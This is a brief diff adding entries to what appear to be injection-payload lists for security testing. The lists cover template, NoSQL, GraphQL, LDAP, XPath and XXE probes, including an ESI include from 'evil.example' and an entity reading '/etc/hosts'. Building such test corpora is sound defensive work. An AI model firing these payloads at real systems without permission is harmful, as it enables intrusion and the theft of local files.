@@ -208,6 +208,9 @@ ${{7*7}}
 %s%s%s%s%s
 """
 DOCUMENTS = r"""
+b';return(!0);var c='
+query Probe {__typename}
+{x:__typename y:__typename}
 }, { password : /.*/ }
 ' } ], $comment:'a'
 {a(b: "{\"c\": 1}")}
@@ -256,6 +259,9 @@ admin*)((|userPassword=*)
 )(!(uid=a)
 """
 ENTITIES = r"""
+<b>&xxe;</b>
+document("file:///b")
+//*
 //*[contains(name(),'a')]
 <esi:include src="http://evil.example/"/>
 <!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]>
